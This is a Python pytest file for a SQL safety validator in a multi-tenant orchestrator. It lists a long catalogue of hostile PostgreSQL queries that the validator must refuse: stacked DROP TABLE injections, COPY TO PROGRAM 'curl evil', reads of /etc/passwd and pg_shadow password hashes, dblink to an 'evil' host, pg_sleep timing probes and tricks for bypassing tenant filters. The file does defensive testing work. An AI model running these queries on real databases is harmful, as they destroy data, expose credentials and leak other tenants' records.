"""Hostile or out-of-scope statements the validator must refuse, each with its reason code."""

from __future__ import annotations

import pytest

from orchestrator.safety import validate_direct_query

TENANT = "acme"

# id -> (query, the violation code that must be among the reasons)
UNSAFE_QUERIES: dict[str, tuple[str, str]] = {
    # stacked statements and comment tricks
    "stacked_drop": ("SELECT 1; DROP TABLE services", "multiple_statements"),
    "stacked_select": ("SELECT 1; SELECT 2", "multiple_statements"),
    "stacked_after_comment": ("SELECT 1 /* ; */; DELETE FROM services", "multiple_statements"),
    "stacked_after_line_comment": (
        "SELECT 1 -- c\n; UPDATE services SET name = 'x'",
        "multiple_statements",
    ),
    "stacked_after_string": ("SELECT 'a'';'; DROP TABLE t", "multiple_statements"),
    "stacked_backslash_string": ("SELECT '\\'; DROP TABLE t; --'", "multiple_statements"),
    "stacked_set_role": ("SELECT 1; SET ROLE postgres", "multiple_statements"),
    "stacked_commit": ("COMMIT; SELECT 1", "multiple_statements"),
    # DML, top level and hidden
    "insert": ("INSERT INTO services (name) VALUES ('x')", "not_read_only"),
    "insert_select": ("INSERT INTO audit SELECT * FROM services", "not_read_only"),
    "update": ("UPDATE services SET name = 'x'", "not_read_only"),
    "delete": ("DELETE FROM incidents", "not_read_only"),
    "delete_using": ("DELETE FROM incidents USING services WHERE true", "not_read_only"),
    "merge": ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "not_read_only"),
    "upsert": ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "not_read_only"),
    "writable_cte_delete": (
        "WITH d AS (DELETE FROM incidents RETURNING *) SELECT * FROM d",
        "not_read_only",
    ),
    "writable_cte_update": (
        "WITH u AS (UPDATE services SET tier = 'x' RETURNING id) SELECT count(*) FROM u",
        "not_read_only",
    ),
    "writable_cte_insert": (
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1",
        "not_read_only",
    ),
    "nested_writable_cte": (
        "WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING 1) SELECT * FROM a",
        "not_read_only",
    ),
    "cte_then_delete": ("WITH x AS (SELECT 1) DELETE FROM t", "not_read_only"),
    "cte_then_insert": ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "not_read_only"),
    "select_into": ("SELECT * INTO stolen FROM services", "select_into"),
    "select_into_temp": ("SELECT * INTO TEMP stolen FROM services", "select_into"),
    "select_into_in_cte": ("WITH x AS (SELECT 1) SELECT * INTO t2 FROM x", "select_into"),
    # locking clauses
    "for_update": ("SELECT * FROM services FOR UPDATE", "locking_clause"),
    "for_share": ("SELECT * FROM services FOR SHARE", "locking_clause"),
    "for_no_key_update": ("SELECT * FROM services FOR NO KEY UPDATE", "locking_clause"),
    "for_key_share": ("SELECT * FROM services FOR KEY SHARE", "locking_clause"),
    "for_update_nowait": ("SELECT * FROM services FOR UPDATE NOWAIT", "locking_clause"),
    "for_update_skip_locked": ("SELECT * FROM services FOR UPDATE SKIP LOCKED", "locking_clause"),
    "for_update_in_subquery": (
        "SELECT * FROM (SELECT * FROM services FOR UPDATE) s",
        "locking_clause",
    ),
    "for_update_in_cte": (
        "WITH s AS (SELECT * FROM services FOR UPDATE) SELECT * FROM s",
        "locking_clause",
    ),
    # DDL
    "drop_table": ("DROP TABLE services", "ddl"),
    "drop_schema": ("DROP SCHEMA ops CASCADE", "ddl"),
    "create_table": ("CREATE TABLE x (id int)", "ddl"),
    "create_table_as": ("CREATE TABLE x AS SELECT * FROM services", "ddl"),
    "create_function": ("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "ddl"),
    "create_view": ("CREATE VIEW v AS SELECT 1", "ddl"),
    "create_index": ("CREATE INDEX i ON services (name)", "ddl"),
    "alter_table": ("ALTER TABLE services ADD COLUMN x int", "ddl"),
    "alter_table_rls": ("ALTER TABLE services DISABLE ROW LEVEL SECURITY", "ddl"),
    "truncate": ("TRUNCATE services", "ddl"),
    "truncate_table": ("TRUNCATE TABLE incidents, services CASCADE", "ddl"),
    "comment_on": ("COMMENT ON TABLE services IS 'x'", "ddl"),
    # DCL
    "grant": ("GRANT ALL ON services TO public", "dcl"),
    "revoke": ("REVOKE SELECT ON services FROM reader", "dcl"),
    "grant_role": ("GRANT postgres TO reader", "dcl"),
    # commands sqlglot does not model, or misreads
    "set": ("SET search_path TO public", "statement_not_allowed"),
    "set_local": ("SET LOCAL app.tenant_id = 'other'", "statement_not_allowed"),
    "set_role": ("SET ROLE postgres", "statement_not_allowed"),
    "set_session_authorization": ("SET SESSION AUTHORIZATION postgres", "statement_not_allowed"),
    "reset": ("RESET app.tenant_id", "statement_not_allowed"),
    "reset_all": ("RESET ALL", "statement_not_allowed"),
    "show": ("SHOW search_path", "statement_not_allowed"),
    "copy_to_program": ("COPY services TO PROGRAM 'curl evil'", "statement_not_allowed"),
    "copy_from_file": ("COPY services FROM '/etc/passwd'", "statement_not_allowed"),
    "copy_query_to_stdout": ("COPY (SELECT * FROM services) TO STDOUT", "statement_not_allowed"),
    "do_block": ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", "statement_not_allowed"),
    "call": ("CALL do_things()", "statement_not_allowed"),
    "prepare": ("PREPARE p AS SELECT 1", "statement_not_allowed"),
    "execute": ("EXECUTE p", "statement_not_allowed"),
    "deallocate": ("DEALLOCATE ALL", "statement_not_allowed"),
    "explain": ("EXPLAIN SELECT * FROM services", "statement_not_allowed"),
    "explain_analyze": ("EXPLAIN ANALYZE DELETE FROM services", "statement_not_allowed"),
    "explain_options": ("EXPLAIN (ANALYZE, BUFFERS) SELECT 1", "statement_not_allowed"),
    "listen": ("LISTEN channel", "statement_not_allowed"),
    "notify": ("NOTIFY channel", "statement_not_allowed"),
    "notify_payload": ("NOTIFY channel, 'hello'", "statement_not_allowed"),
    "unlisten": ("UNLISTEN *", "statement_not_allowed"),
    "discard": ("DISCARD ALL", "statement_not_allowed"),
    "checkpoint": ("CHECKPOINT", "statement_not_allowed"),
    "vacuum": ("VACUUM FULL services", "statement_not_allowed"),
    "analyze": ("ANALYZE services", "statement_not_allowed"),
    "lock_table": ("LOCK TABLE services IN ACCESS EXCLUSIVE MODE", "statement_not_allowed"),
    "refresh_matview": ("REFRESH MATERIALIZED VIEW mv", "statement_not_allowed"),
    "alter_system": ("ALTER SYSTEM SET fsync = off", "ddl"),
    "begin": ("BEGIN", "statement_not_allowed"),
    "start_transaction_rw": ("START TRANSACTION READ WRITE", "statement_not_allowed"),
    "rollback": ("ROLLBACK", "statement_not_allowed"),
    "bare_identifier": ("services", "statement_not_allowed"),
    "load_library": ("LOAD 'auto_explain'", "statement_not_allowed"),
    # functions outside the allowlist
    "pg_sleep": ("SELECT pg_sleep(10)", "forbidden_function"),
    "pg_sleep_in_where": (
        "SELECT * FROM services WHERE pg_sleep(1) IS NOT NULL",
        "forbidden_function",
    ),
    "pg_sleep_for": ("SELECT pg_sleep_for('5 minutes')", "forbidden_function"),
    "pg_sleep_qualified": ("SELECT pg_catalog.pg_sleep(1)", "forbidden_function"),
    "pg_sleep_in_case": ("SELECT CASE WHEN true THEN pg_sleep(1) END", "forbidden_function"),
    "pg_sleep_cast": ("SELECT pg_sleep(1)::text", "forbidden_function"),
    "pg_sleep_rows_from": (
        "SELECT * FROM services s, ROWS FROM (pg_sleep(1)) AS x",
        "forbidden_function",
    ),
    "pg_sleep_in_union_branch": (
        "SELECT 1 WHERE false UNION ALL SELECT pg_sleep(5)",
        "forbidden_function",
    ),
    "lo_get_nested": ("SELECT convert_from(lo_get(1), 'utf8')", "forbidden_function"),
    "pg_catalog_now": ("SELECT pg_catalog.now()", "forbidden_function"),
    "pg_sleep_in_cte": ("WITH s AS (SELECT pg_sleep(5)) SELECT * FROM s", "forbidden_function"),
    "pg_sleep_quoted_name": ('SELECT "pg_sleep"(1)', "forbidden_function"),
    "pg_sleep_upper": ("SELECT PG_SLEEP(1)", "forbidden_function"),
    "pg_read_file": ("SELECT pg_read_file('/etc/passwd')", "forbidden_function"),
    "pg_read_binary_file": ("SELECT pg_read_binary_file('postgresql.conf')", "forbidden_function"),
    "pg_ls_dir": ("SELECT * FROM pg_ls_dir('.')", "forbidden_function"),
    "lo_import": ("SELECT lo_import('/etc/passwd')", "forbidden_function"),
    "lo_export": ("SELECT lo_export(1234, '/tmp/x')", "forbidden_function"),
    "lo_get": ("SELECT lo_get(1234)", "forbidden_function"),
    "dblink": ("SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", "forbidden_function"),
    "dblink_exec": ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "forbidden_function"),
    "pg_terminate_backend": ("SELECT pg_terminate_backend(pid) FROM t", "forbidden_function"),
    "pg_cancel_backend": ("SELECT pg_cancel_backend(123)", "forbidden_function"),
    "pg_advisory_lock": ("SELECT pg_advisory_lock(1)", "forbidden_function"),
    "pg_try_advisory_xact_lock": ("SELECT pg_try_advisory_xact_lock(1)", "forbidden_function"),
    "nextval": ("SELECT nextval('services_id_seq')", "forbidden_function"),
    "setval": ("SELECT setval('services_id_seq', 1)", "forbidden_function"),
    "set_config": ("SELECT set_config('app.tenant_id', 'other', false)", "forbidden_function"),
    "set_config_in_where": (
        "SELECT * FROM services WHERE set_config('app.tenant_id', 'x', true) IS NOT NULL",
        "forbidden_function",
    ),
    "query_to_xml": (
        "SELECT query_to_xml('select * from pg_authid', true, true, '')",
        "forbidden_function",
    ),
    "table_to_xml": ("SELECT table_to_xml('services', true, true, '')", "forbidden_function"),
    "cursor_to_xml": ("SELECT cursor_to_xml('c', 1, true, true, '')", "forbidden_function"),
    "ts_stat": ("SELECT * FROM ts_stat('select vec from docs')", "forbidden_function"),
    "xpath": ("SELECT xpath('/a', '<a/>')", "forbidden_function"),
    "current_setting_qualified": ("SELECT pg_catalog.current_setting('x')", "forbidden_function"),
    "app_schema_function": ("SELECT ops.refresh_everything()", "forbidden_function"),
    "app_schema_table_function": ("SELECT * FROM ops.leak(1)", "forbidden_function"),
    "unknown_function": ("SELECT my_udf(1)", "forbidden_function"),
    "txid_current": ("SELECT txid_current()", "forbidden_function"),
    "pg_reload_conf": ("SELECT pg_reload_conf()", "forbidden_function"),
    "version": ("SELECT version()", "forbidden_function"),
    "to_regclass": ("SELECT to_regclass('pg_authid')", "forbidden_function"),
    "has_table_privilege": ("SELECT has_table_privilege('x', 'select')", "forbidden_function"),
    "inet_server_addr": ("SELECT inet_server_addr()", "forbidden_function"),
    "pg_stat_file": ("SELECT pg_stat_file('base')", "forbidden_function"),
    "pg_logical_emit": ("SELECT pg_logical_emit_message(true, 'x', 'y')", "forbidden_function"),
    "sleep_in_order_by": ("SELECT name FROM services ORDER BY pg_sleep(1)", "forbidden_function"),
    "sleep_in_join_on": ("SELECT 1 FROM a JOIN b ON pg_sleep(1) IS NULL", "forbidden_function"),
    "sleep_in_lateral": (
        "SELECT * FROM services, LATERAL (SELECT pg_sleep(1)) x",
        "forbidden_function",
    ),
    "sleep_in_values": ("VALUES (pg_sleep(1))", "forbidden_function"),
    # system catalogs and foreign schemas
    "pg_class": ("SELECT * FROM pg_class", "system_catalog"),
    "pg_authid": ("SELECT rolpassword FROM pg_authid", "system_catalog"),
    "pg_shadow": ("SELECT passwd FROM pg_shadow", "system_catalog"),
    "pg_catalog_qualified": ("SELECT * FROM pg_catalog.pg_tables", "system_catalog"),
    "pg_catalog_unusual_table": ("SELECT * FROM pg_catalog.anything", "system_catalog"),
    "quoted_pg_catalog": ('SELECT * FROM "pg_catalog"."pg_roles"', "system_catalog"),
    "uppercase_pg_class": ("SELECT * FROM PG_CLASS", "system_catalog"),
    "pg_stat_activity": ("SELECT query FROM pg_stat_activity", "system_catalog"),
    "pg_settings": ("SELECT * FROM pg_settings", "system_catalog"),
    "pg_largeobject": ("SELECT data FROM pg_largeobject", "system_catalog"),
    "information_schema": ("SELECT * FROM information_schema.tables", "system_catalog"),
    "information_schema_upper": ("SELECT * FROM INFORMATION_SCHEMA.columns", "system_catalog"),
    "catalog_in_subquery": (
        "SELECT * FROM services WHERE id IN (SELECT oid FROM pg_class)",
        "system_catalog",
    ),
    "catalog_in_cte": ("WITH r AS (SELECT * FROM pg_roles) SELECT * FROM r", "system_catalog"),
    "catalog_in_union": (
        "SELECT name FROM services UNION SELECT usename FROM pg_user",
        "system_catalog",
    ),
    "catalog_in_exists": ("SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_database)", "system_catalog"),
    "pg_toast": ("SELECT * FROM pg_toast.pg_toast_1234", "system_catalog"),
    "catalog_column_qualified": (
        "SELECT pg_catalog.pg_class.relname FROM services",
        "system_catalog",
    ),
    "public_schema": ("SELECT * FROM public.users", "foreign_schema"),
    "other_schema": ("SELECT * FROM billing.invoices", "foreign_schema"),
    "quoted_ops_wrong_case": ('SELECT * FROM "OPS".services', "foreign_schema"),
    "database_qualified": ("SELECT * FROM otherdb.ops.services", "foreign_schema"),
    "foreign_schema_in_join": (
        "SELECT * FROM services s JOIN audit.log l ON true",
        "foreign_schema",
    ),
    # tenancy
    "other_tenant_eq": (
        "SELECT * FROM services WHERE tenant_id = 'globex'",
        "cross_tenant_reference",
    ),
    "other_tenant_reversed": (
        "SELECT * FROM services WHERE 'globex' = tenant_id",
        "cross_tenant_reference",
    ),
    "other_tenant_qualified": (
        "SELECT * FROM services s WHERE s.tenant_id = 'globex'",
        "cross_tenant_reference",
    ),
    "other_tenant_in_list": (
        "SELECT * FROM services WHERE tenant_id IN ('acme', 'globex')",
        "cross_tenant_reference",
    ),
    "other_tenant_not_equal": (
        "SELECT * FROM services WHERE tenant_id <> 'acme'",
        "cross_tenant_reference",
    ),
    "other_tenant_bang_equal": (
        "SELECT * FROM services WHERE tenant_id != 'acme'",
        "cross_tenant_reference",
    ),
    "other_tenant_not_in": (
        "SELECT * FROM services WHERE tenant_id NOT IN ('acme')",
        "cross_tenant_reference",
    ),
    "other_tenant_not_eq": (
        "SELECT * FROM services WHERE NOT (tenant_id = 'acme')",
        "cross_tenant_reference",
    ),
    "other_tenant_cast": (
        "SELECT * FROM services WHERE tenant_id = 'globex'::text",
        "cross_tenant_reference",
    ),
    "other_tenant_concat": (
        "SELECT * FROM services WHERE tenant_id = 'glo' || 'bex'",
        "cross_tenant_reference",
    ),
    "other_tenant_concat_fn": (
        "SELECT * FROM services WHERE tenant_id = concat('glo', 'bex')",
        "cross_tenant_reference",
    ),
    "other_tenant_upper_col": (
        "SELECT * FROM services WHERE upper(tenant_id) = 'GLOBEX'",
        "cross_tenant_reference",
    ),
    "other_tenant_like": (
        "SELECT * FROM services WHERE tenant_id LIKE '%'",
        "cross_tenant_reference",
    ),
    "other_tenant_range": ("SELECT * FROM services WHERE tenant_id > ''", "cross_tenant_reference"),
    "other_tenant_between": (
        "SELECT * FROM services WHERE tenant_id BETWEEN 'a' AND 'z'",
        "cross_tenant_reference",
    ),
    "other_tenant_any_array": (
        "SELECT * FROM services WHERE tenant_id = ANY(ARRAY['globex'])",
        "cross_tenant_reference",
    ),
    "other_tenant_in_join": (
        "SELECT * FROM services s JOIN hosts h ON h.tenant_id = 'globex'",
        "cross_tenant_reference",
    ),
    "other_tenant_in_subquery": (
        "SELECT * FROM services WHERE id IN (SELECT id FROM hosts WHERE tenant_id = 'globex')",
        "cross_tenant_reference",
    ),
    "other_tenant_case_folding": (
        "SELECT * FROM services WHERE tenant_id = 'ACME'",
        "cross_tenant_reference",
    ),
    "other_tenant_chr_concat": (
        "SELECT * FROM services WHERE tenant_id = chr(103) || 'lobex'",
        "cross_tenant_reference",
    ),
    "other_tenant_row_compare": (
        "SELECT * FROM services WHERE (tenant_id, id) = ('globex', 1)",
        "cross_tenant_reference",
    ),
    "other_tenant_any_array_literal": (
        "SELECT * FROM services WHERE tenant_id = ANY('{acme,globex}')",
        "cross_tenant_reference",
    ),
    "other_tenant_trimmed": (
        "SELECT * FROM services WHERE tenant_id = trim(' globex ')",
        "cross_tenant_reference",
    ),
    "other_tenant_is_not_distinct": (
        "SELECT * FROM services WHERE tenant_id IS NOT DISTINCT FROM 'globex'",
        "cross_tenant_reference",
    ),
    "other_tenant_quoted_column": (
        "SELECT * FROM services WHERE \"tenant_id\" = 'globex'",
        "cross_tenant_reference",
    ),
    "other_tenant_or": (
        "SELECT * FROM services WHERE tenant_id = 'acme' OR tenant_id = 'globex'",
        "cross_tenant_reference",
    ),
    # lexical tricks, garbage and limits
    "unicode_escape_identifier": ('SELECT * FROM U&"pg\\005fclass"', "unicode_escape"),
    "null_byte": ("SELECT 1\x00; DROP TABLE t", "null_byte"),
    "too_long": ("SELECT " + "1, " * 40_000 + "1", "too_long"),
    "deep_parentheses": ("SELECT " + "(" * 500 + "1" + ")" * 500, "too_deeply_nested"),
    "deep_subqueries": (
        "SELECT * FROM " + "(SELECT * FROM " * 40 + "t" + ") x" * 40,
        "too_deeply_nested",
    ),
    "empty": ("", "empty_query"),
    "whitespace_only": ("   \n\t ", "empty_query"),
    "only_semicolons": (";;;", "empty_query"),
    "only_comment": ("-- nothing here", "empty_query"),
    "garbage": ("SELEKT * FROM", "statement_not_allowed"),
    "unterminated_string": ("SELECT 'abc", "parse_error"),
    "unterminated_identifier": ('SELECT "abc', "parse_error"),
    "broken_select": ("SELECT FROM WHERE", "parse_error"),
    "unbalanced_parens": ("SELECT (1", "parse_error"),
}


@pytest.mark.parametrize(("query", "code"), UNSAFE_QUERIES.values(), ids=UNSAFE_QUERIES.keys())
def test_refuses_with_reason(query: str, code: str) -> None:
    result = validate_direct_query(query, tenant_id=TENANT)
    assert not result.is_safe
    assert result.sql is None
    assert code in result.codes, [(v.code, v.message) for v in result.violations]
    for violation in result.violations:
        assert violation.message and "\n" not in violation.message


@pytest.mark.parametrize(
    "value", [None, 42, b"SELECT 1", ["SELECT 1"]], ids=["none", "int", "bytes", "list"]
)
def test_non_text_input_is_refused(value: object) -> None:
    result = validate_direct_query(value)  # type: ignore[arg-type]
    assert not result.is_safe and result.codes == ("invalid_input",)


@pytest.mark.parametrize("max_rows", [0, -5, True, 2.5], ids=["zero", "negative", "bool", "float"])
def test_bad_row_cap_is_refused(max_rows: object) -> None:
    result = validate_direct_query("SELECT 1", max_rows=max_rows)  # type: ignore[arg-type]
    assert result.codes == ("invalid_row_limit",)
